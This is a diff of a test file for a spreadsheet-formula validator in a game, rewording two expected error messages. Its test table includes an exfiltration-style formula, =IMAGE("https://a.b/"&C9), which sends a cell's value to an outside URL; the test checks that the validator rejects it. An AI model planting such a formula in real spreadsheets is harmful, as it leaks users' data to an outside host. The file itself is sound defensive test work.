@@ -36,7 +36,7 @@ describe('a described game that formulas rule', () => {
   test.each([
     ['an error', '=1/0', /This round of Two thirds'!G9: found the error #DIVIDE_BY_ZERO, expected a value/],
     ['a reference to a tab that is gone', '=#REF!A1', /G9: found the error #REF, expected a value/],
-    ['another tab', '=Season!B9', /G9: found =Season!B9, expected a formula that reads this tab alone/],
+    ['another tab', '=Season!B9', /G9: found =Season!B9, expected a formula that reads only this tab/],
     ['a circular reference', '=G9+1', /G9: found the error #REF, expected a value/],
     ['a formula that sends something away', '=IMAGE("https://a.b/"&C9)', /expected a formula without IMAGE/],
     [
@@ -78,7 +78,7 @@ describe('a described game that formulas rule', () => {
     const file = host.world.files[host.world.activeWorkbook as string];
     if (file?.kind === 'workbook') file.workbook.isIterative = true;
     expect(problemOf(tryAsk(host, 'preview', { match: 1, round: 0, early: true }))).toBe(
-      'The spreadsheet computes circular references: a value would depend on how often it was computed.',
+      'The spreadsheet computes circular references. A value would depend on how often Google computes it.',
     );
     expect(resolve(host, 1).value).toMatchObject({ ok: false });
     if (file?.kind === 'workbook') file.workbook.isIterative = false;
